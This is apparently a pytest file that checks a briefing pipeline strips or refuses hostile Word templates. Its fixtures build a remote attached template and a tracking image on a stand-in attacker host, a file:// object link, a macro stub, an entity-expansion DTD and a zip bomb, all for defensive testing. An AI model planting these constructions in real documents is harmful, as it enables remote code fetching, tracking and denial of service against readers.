"""A template gives the briefing its look and nothing else. Each template here carries something
a briefing sent outside the desk must never carry (a remote template Word would fetch, links out,
comments, a sensitivity label, macros), or is built to break the reader (a DTD, a zip bomb, a
huge styles part). The briefing is checked part by part: only what the pipeline writes is there."""

from __future__ import annotations

import re
import time
import zipfile
from pathlib import Path

import docx
import pytest
from docx.enum.style import WD_STYLE_TYPE
from docx.shared import Pt
from lxml import etree

from pipeline.cli import main
from pipeline.word import customxml, ooxml

from .conftest import check_docx, repacked

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL_TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
CONTENT_TYPES = "[Content_Types].xml"
DOCUMENT_RELS = "word/_rels/document.xml.rels"
# Every part a briefing may hold: what the pipeline writes, and nothing a template brings.
OUR_PARTS = re.compile(
    r"\[Content_Types\]\.xml|_rels/\.rels|docProps/(core|app|custom)\.xml|word/_rels/document\.xml\.rels"
    r"|word/(document|styles|settings|webSettings|fontTable|numbering|footnotes)\.xml|word/theme/theme1\.xml"
    r"|word/(header|footer)\d+\.xml|word/media/image\d+\.png"
    # The briefing's own custom XML parts, its edition's snapshot (checked to be ours below) and its marks.
    r"|customXml/item[12]\.xml|customXml/itemProps[12]\.xml|customXml/_rels/item[12]\.xml\.rels"
    r"|word/charts/chart\d+\.xml|word/charts/_rels/chart\d+\.xml\.rels"
    r"|word/embeddings/Microsoft_Excel_Worksheet\d+\.xlsx"
)
OUR_CORE_PROPERTIES = {
    "title",
    "subject",
    "creator",
    "keywords",
    "category",
    "language",
    "lastModifiedBy",
    "created",
    "modified",
    "revision",
}


@pytest.fixture(scope="session")
def base(tmp_path_factory):
    """An ordinary template: Georgia text, a header of its own, some content; made once a run,
    and only read."""
    document = docx.Document()
    document.styles["Normal"].font.name = "Georgia"
    document.styles["Normal"].font.size = Pt(12)
    document.sections[0].header.paragraphs[0].text = "the template's own header"
    document.add_paragraph("The template's own text.")
    path = tmp_path_factory.mktemp("template") / "base.docx"
    document.save(path)
    return path


def related(rel_id: str, kind: str, target: str, external: bool = False) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rel_id}" Type="{kind}" Target="{target}"{mode}/>'.encode()


def add_relationships(*relationships: bytes):
    return lambda rels: rels.replace(b"</Relationships>", b"".join(relationships) + b"</Relationships>")


def add_content_type(*entries: bytes):
    return lambda types: types.replace(b"</Types>", b"".join(entries) + b"</Types>")


def override(part: str, content_type: str) -> bytes:
    return f'<Override PartName="/{part}" ContentType="{content_type}"/>'.encode()


RELS_HEADER = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'

# Each hostile template, as the parts changed or added in the ordinary one; and a word that
# must not be anywhere in the briefing built with it.
HOSTILE = {
    "remote attached template": (
        {
            "word/settings.xml": lambda xml: re.sub(rb"(<w:proofState[^>]*/>)", rb'\1<w:attachedTemplate r:id="rIdEvil"/>', xml),
            "word/_rels/settings.xml.rels": RELS_HEADER
            + related("rIdEvil", f"{REL_TYPES}/attachedTemplate", "http://attacker.invalid/evil.dotm", external=True)
            + b"</Relationships>",
        },
        "attacker.invalid",
    ),
    "external image": (
        {
            DOCUMENT_RELS: add_relationships(
                related("rIdPixel", f"{REL_TYPES}/image", "http://attacker.invalid/pixel.png", external=True)
            )
        },
        "attacker.invalid",
    ),
    "file object": (
        {
            DOCUMENT_RELS: add_relationships(
                related("rIdFile", f"{REL_TYPES}/oleObject", "file:///C:/Users/analyst/secret.xlsx", external=True)
            )
        },
        "secret.xlsx",
    ),
    "comments and people": (
        {
            "word/comments.xml": b'<w:comments xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            b'<w:comment w:id="0" w:author="Reviewer"><w:p><w:r><w:t>REVIEWER ONLY: do not send</w:t></w:r></w:p></w:comment></w:comments>',
            "word/people.xml": b'<w15:people xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml">'
            b'<w15:person w15:author="Reviewer"/></w15:people>',
            DOCUMENT_RELS: add_relationships(
                related("rIdComments", f"{REL_TYPES}/comments", "comments.xml"),
                related("rIdPeople", "http://schemas.microsoft.com/office/2011/relationships/people", "people.xml"),
            ),
            CONTENT_TYPES: add_content_type(
                override("word/comments.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml"),
                override("word/people.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.people+xml"),
            ),
        },
        "Reviewer",
    ),
    "sensitivity label": (
        {
            "customXml/item2.xml": b'<label xmlns="http://schemas.microsoft.com/office/2020/mipLabelMetadata">MSIP_Label_Confidential</label>',
            "docProps/custom.xml": b'<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" '
            b'xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
            b'<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="MSIP_Label_0000_Enabled"><vt:lpwstr>true</vt:lpwstr></property></Properties>',
            DOCUMENT_RELS: add_relationships(related("rIdLabel", f"{REL_TYPES}/customXml", "../customXml/item2.xml")),
            "_rels/.rels": add_relationships(related("rIdCustom", f"{REL_TYPES}/custom-properties", "docProps/custom.xml")),
            CONTENT_TYPES: add_content_type(
                override("docProps/custom.xml", "application/vnd.openxmlformats-officedocument.custom-properties+xml")
            ),
        },
        "MSIP",
    ),
    "macros": (
        {
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 AutoOpen macro",
            DOCUMENT_RELS: add_relationships(
                related("rIdVba", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin")
            ),
            CONTENT_TYPES: add_content_type(b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
        },
        "AutoOpen",
    ),
    "glossary": (
        {
            "word/glossary/document.xml": b'<w:glossaryDocument xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            b"<w:docParts/></w:glossaryDocument>",
            DOCUMENT_RELS: add_relationships(related("rIdGlossary", f"{REL_TYPES}/glossaryDocument", "glossary/document.xml")),
            CONTENT_TYPES: add_content_type(
                override(
                    "word/glossary/document.xml",
                    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.glossary+xml",
                )
            ),
        },
        "glossaryDocument",
    ),
    "embedded object": (
        {
            "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 EMBEDDED WORKBOOK",
            DOCUMENT_RELS: add_relationships(related("rIdOle", f"{REL_TYPES}/oleObject", "embeddings/oleObject1.bin")),
            CONTENT_TYPES: add_content_type(
                b'<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
            ),
        },
        "EMBEDDED WORKBOOK",
    ),
    "document variables": (
        {
            "word/settings.xml": lambda xml: xml.replace(
                b"</w:compat>", b'</w:compat><w:docVars><w:docVar w:name="Client" w:val="CLIENT-SECRET"/></w:docVars>'
            )
        },
        "CLIENT-SECRET",
    ),
    "picture nothing shows": (
        {
            "word/media/unused.png": b"\x89PNG\r\n\x1a\n UNUSED PICTURE",
            DOCUMENT_RELS: add_relationships(related("rIdUnused", f"{REL_TYPES}/image", "media/unused.png")),
            CONTENT_TYPES: add_content_type(b'<Default Extension="png" ContentType="image/png"/>'),
        },
        "UNUSED PICTURE",
    ),
    "core properties of its own": (
        {
            "docProps/core.xml": lambda xml: xml.replace(
                b"</cp:coreProperties>",
                b"<cp:contentStatus>DRAFT-STATUS</cp:contentStatus><dc:identifier>DOC-ID-42</dc:identifier>"
                b"<cp:version>TEMPLATE-VERSION</cp:version></cp:coreProperties>",
            )
        },
        "DOC-ID-42",
    ),
    "entities in its core properties": (
        {
            "docProps/core.xml": lambda xml: xml.replace(
                b"?>", b'?><!DOCTYPE cp:coreProperties [<!ENTITY who "ENTITY-AUTHOR">]>', 1
            ).replace(b"<dc:creator>python-docx</dc:creator>", b"<dc:creator>&who;</dc:creator>")
        },
        "ENTITY-AUTHOR",
    ),
}


@pytest.fixture
def build(sample_xlsx, capsys):
    """The sample's briefing built to `out` with `template` by the command line: its exit code
    and what it printed on stderr."""

    def run(template: Path, out: Path) -> tuple[int, str]:
        code = main(["build", str(sample_xlsx), "-o", str(out), "--template", str(template)])
        return code, capsys.readouterr().err

    return run


def assert_nothing_but_ours(path: Path, unwanted: str) -> None:
    """The briefing at `path` holds only the parts the pipeline writes, links to nothing outside
    itself, shows every picture it holds, and carries no trace of `unwanted`."""
    with zipfile.ZipFile(path) as package:
        names = package.namelist()
        parts = {name: package.read(name) for name in names}
    assert [name for name in names if not OUR_PARTS.fullmatch(name)] == []
    assert etree.fromstring(parts["customXml/item1.xml"]).tag == f"{{{customxml.NAMESPACE}}}edition"
    assert etree.fromstring(parts["customXml/item2.xml"]).tag == f"{{{customxml.MARKS_NAMESPACE}}}{customxml.MARKS_ROOT}"
    for name, data in parts.items():
        assert unwanted.encode() not in data, name
        if name.endswith(".rels"):
            assert b'TargetMode="External"' not in data, name
    shown = b"".join(data for name, data in parts.items() if re.fullmatch(r"word/(document|header\d+|footer\d+)\.xml", name))
    for rels in [data for name, data in parts.items() if name.endswith(".rels")]:
        for rel_id, target in re.findall(rb'Id="(\w+)" Type="[^"]*/image" Target="([^"]+)"', rels):
            assert b'r:embed="' + rel_id + b'"' in shown, f"{target} is in the package but nothing shows it"
    settings = parts["word/settings.xml"]
    assert b"attachedTemplate" not in settings and b"docVars" not in settings
    core = etree.fromstring(parts["docProps/core.xml"])
    assert core.getroottree().docinfo.doctype == ""
    assert {etree.QName(child).localname for child in core} <= OUR_CORE_PROPERTIES
    custom = etree.fromstring(parts["docProps/custom.xml"])
    assert [p.get("name") for p in custom] == ["Marking"]
    check_docx(path)


@pytest.mark.parametrize("hostile", HOSTILE, ids=list(HOSTILE))
def test_a_templates_look_is_taken_and_nothing_else(base, tmp_path, hostile, build):
    parts, unwanted = HOSTILE[hostile]
    template = repacked(base, tmp_path / "hostile.docx", parts)
    out = tmp_path / "briefing.docx"
    code, err = build(template, out)
    assert code == 0, err
    assert_nothing_but_ours(out, unwanted)
    document = docx.Document(out)
    assert document.styles["Normal"].font.name == "Georgia"  # the look did come through
    assert "The template's own text." not in [p.text for p in document.paragraphs]


def test_the_briefing_without_a_template_holds_nothing_but_ours(sample_docx):
    assert_nothing_but_ours(sample_docx, "python-docx")


def refused_in_time(build, template: Path, tmp_path, *words: str) -> None:
    out = tmp_path / "briefing.docx"
    out.write_bytes(b"last good report")
    started = time.monotonic()
    code, err = build(template, out)
    assert time.monotonic() - started < 5
    assert code == 2, err
    assert err.startswith("error: ") and err.count("\n") == 1 and "internal error" not in err
    for word in (str(template), *words):
        assert word in err
    assert out.read_bytes() == b"last good report"


def test_a_dtd_in_the_templates_styles_is_refused(base, tmp_path, build):
    def with_entities(styles: bytes) -> bytes:
        doctype = b'<!DOCTYPE w:styles [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        return styles.replace(b"?>", b"?>" + doctype, 1).replace(b'w:val="Normal"/>', b'w:val="&b;"/>', 1)

    template = repacked(base, tmp_path / "dtd.docx", {"word/styles.xml": with_entities})
    refused_in_time(build, template, tmp_path, "styles", "DTD")


def test_a_zip_bomb_template_is_refused_unread(base, tmp_path, build):
    template = repacked(base, tmp_path / "bomb.docx", {"word/media/filler.png": b"\0" * (64 << 20)})
    refused_in_time(build, template, tmp_path, "zip bomb")


@pytest.mark.parametrize(
    "styles, said",
    [(60_000, "MB"), (6_000, "6,164 styles")],  # with the 164 of python-docx's blank, the base
    ids=["huge styles part", "too many styles"],
)
def test_a_template_with_too_many_styles_is_refused_in_bounded_time(base, tmp_path, styles, said, build):
    many = b"".join(
        f'<w:style w:type="paragraph" w:customStyle="1" w:styleId="Filler{n}"><w:name w:val="Filler {n}"/>'
        f'<w:basedOn w:val="Normal"/><w:rPr><w:sz w:val="24"/></w:rPr></w:style>'.encode()
        for n in range(styles)
    )
    template = repacked(
        base, tmp_path / "huge.docx", {"word/styles.xml": lambda xml: xml.replace(b"</w:styles>", many + b"</w:styles>")}
    )
    refused_in_time(build, template, tmp_path, "styles", said)


def test_a_template_whose_briefing_table_style_is_no_table_style_is_refused(tmp_path, build):
    """The briefing's tables take the template's "Briefing Table" style where it has one: one
    of another kind is the template's to mend, not a fault of the pipeline's."""
    document = docx.Document()
    document.styles.add_style("Briefing Table", WD_STYLE_TYPE.PARAGRAPH)
    template = tmp_path / "table as paragraph.docx"
    document.save(template)
    refused_in_time(build, template, tmp_path, "paragraph style named 'Briefing Table'", "rename or delete")


def test_a_template_that_is_not_a_word_document_is_refused(tmp_path, sample_xlsx, build):
    refused_in_time(build, sample_xlsx, tmp_path, "not a Word document")


def test_numbering_the_templates_styles_use_is_kept_and_no_other(tmp_path, build):
    """A template whose headings are numbered in its own way keeps that numbering; lists it
    defines that no style uses are left behind."""
    document = docx.Document()
    ooxml.set_style_numbering(document.styles["Heading 1"], ooxml.add_list(document, "parts", "upperRoman", "Part %1.", None))
    template = tmp_path / "numbered.docx"
    document.save(template)
    out = tmp_path / "briefing.docx"
    code, err = build(template, out)
    assert code == 0, err
    with zipfile.ZipFile(out) as package:
        numbering_xml = package.read("word/numbering.xml").decode()
    assert "upperRoman" in numbering_xml and "Part %1." in numbering_xml
    template_lists = len(re.findall(r"<w:abstractNum ", docx.Document(template).part.numbering_part.blob.decode()))
    briefing_lists = len(re.findall(r"<w:abstractNum ", numbering_xml))
    assert briefing_lists < template_lists  # the template's unused lists stayed behind


def test_first_and_even_page_headers_follow_the_template(tmp_path, build):
    """A template whose first page, or even pages, have headers of their own: the briefing's
    have them too, each with the marking."""
    template = docx.Document()
    template.sections[0].different_first_page_header_footer = True
    template.settings.odd_and_even_pages_header_footer = True
    template.save(tmp_path / "pages.docx")
    out = tmp_path / "briefing.docx"
    code, err = build(tmp_path / "pages.docx", out)
    assert code == 0, err
    briefing = docx.Document(out)
    section = briefing.sections[0]
    assert section.different_first_page_header_footer and briefing.settings.odd_and_even_pages_header_footer
    for header in (section.header, section.first_page_header, section.even_page_header):
        assert header.paragraphs[0].text == "TLP:CLEAR"
    check_docx(out)
